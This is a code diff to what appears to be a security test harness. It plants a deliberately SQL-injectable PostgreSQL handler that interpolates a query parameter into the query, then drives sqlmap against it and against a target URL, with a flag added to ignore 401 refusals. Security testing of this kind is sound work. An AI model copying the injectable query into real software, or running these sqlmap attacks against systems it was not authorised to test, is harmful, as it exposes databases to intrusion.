@@ -28,8 +28,14 @@ export async function attack({ address, clientCookie, databaseUrl }: Target): Pr
   const database = new pg.Pool({ connectionString: databaseUrl, max: 2 })
   const careless = await plant(async (request, response) => {
     const name = new URL(request.url!, 'http://planted').searchParams.get('q')
-    const { rows } = await database.query(`select 'lune' as name where 'lune' = '${name}'`).catch(() => ({ rows: [] }))
-    response.setHeader('content-type', 'text/html').end(page(rows.map((row) => row.name).join()))
+    const asked = `select 'lune' as name where 'lune' = '${name}'`
+    // Several statements in one have several results.
+    const results = await database
+      .query(asked)
+      .then((found) => [found].flat())
+      .catch(() => [])
+    const names = results.flatMap(({ rows }) => rows ?? []).map((row) => row.name)
+    response.setHeader('content-type', 'text/html').end(page(names.join()))
   })
   const planted = await inject(`${careless.address}/?q=lune`)
   await careless.close()
@@ -46,7 +52,19 @@ async function inject(url: string, more: readonly string[] = [], body?: object, 
   const sent = body
     ? ['--data', JSON.stringify(body), '--headers', `Content-Type: application/json\nOrigin: ${origin}`]
     : []
-  const common = ['--batch', '--level', '2', '--dbms', 'PostgreSQL', '--disable-coloring', '--output-dir', folder]
+  // A wrong password is refused by 401, at which it would stop.
+  const common = [
+    '--batch',
+    '--level',
+    '2',
+    '--ignore-code',
+    '401',
+    '--dbms',
+    'PostgreSQL',
+    '--disable-coloring',
+    '--output-dir',
+    folder,
+  ]
   const { said } = await run('sqlmap', ['-u', url, ...common, ...sent, ...more])
   await rm(folder, { recursive: true, force: true })
   return {
